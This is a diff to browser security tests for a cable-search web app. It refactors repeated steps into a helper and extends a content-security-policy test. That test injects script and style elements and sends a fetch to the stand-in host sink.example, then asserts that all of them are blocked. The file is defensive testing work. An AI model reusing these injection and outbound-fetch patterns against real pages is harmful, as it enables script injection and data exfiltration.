@@ -10,7 +10,7 @@ from rag.answering.model import Draft, DraftCitation, Statement
 from rag.cables.model import Evidence, Key
 from rag.retrieval.question import Question
 from tests.web import hostile
-from tests.web.conftest import OpenPage, Served, ask, open_tab
+from tests.web.conftest import OpenPage, Served, ask, choose_cable, open_tab
 
 if TYPE_CHECKING:
     from threading import Event
@@ -39,12 +39,7 @@ def test_every_row_that_a_sanitiser_lets_through_is_shown_as_text(served: Served
     page.fill("#library-find input", "zephyrine")
     page.press("#library-find input", "Enter")
     page.wait_for_function("() => document.querySelectorAll('.cables tbody tr').length === 1")
-    open_tab(page, "Brief")
-    page.fill("#brief-find input", "zephyrine")
-    page.press("#brief-find input", "Enter")
-    page.click("#brief-cables input")
-    page.get_by_role("option", name=hostile.ID).click()
-    page.keyboard.press("Escape")
+    choose_cable(page, "zephyrine", hostile.ID)
     page.click("#brief-make")
     page.wait_for_selector(".brief .sheet, #brief-page .problem")
     assert page.evaluate(_NOTHING_MADE) == []
@@ -102,12 +97,16 @@ def test_policy_stops_what_would_get_past_the_escaping(served: Served, browser: 
           const made = document.createElement('script');
           made.textContent = 'window.ran = 3';
           document.body.append(made);
+          const style = document.createElement('style');
+          style.textContent = 'body { --reached: 1 }';
+          document.head.append(style);
           document.querySelector('#js').click();
           fetch('https://sink.example/f').catch(() => 0);
         }"""
     )
     page.wait_for_timeout(1000)
     assert page.evaluate("() => window.ran") is None
+    assert page.evaluate("() => getComputedStyle(document.body).getPropertyValue('--reached')") == ""
     assert [url for url in left if "sink.example" in url] == []
     page.close()
 
@@ -134,12 +133,7 @@ def test_no_serious_barrier_on_any_page(served: Served, open_page: OpenPage, sch
     ask(page, "What did Wilhelmina Throckmorton tell the Consul about Atlantis?")
     page.locator("#live summary").first.click()
     found = violations(page)
-    open_tab(page, "Brief")
-    page.fill("#brief-find input", "doubts kestrel")
-    page.press("#brief-find input", "Enter")
-    page.click("#brief-cables input")
-    page.get_by_role("option", name="09PORTALDERA231").click()
-    page.keyboard.press("Escape")
+    choose_cable(page, "doubts kestrel", "09PORTALDERA231")
     page.click("#brief-make")
     page.wait_for_selector(".brief .sheet")
     found += violations(page)
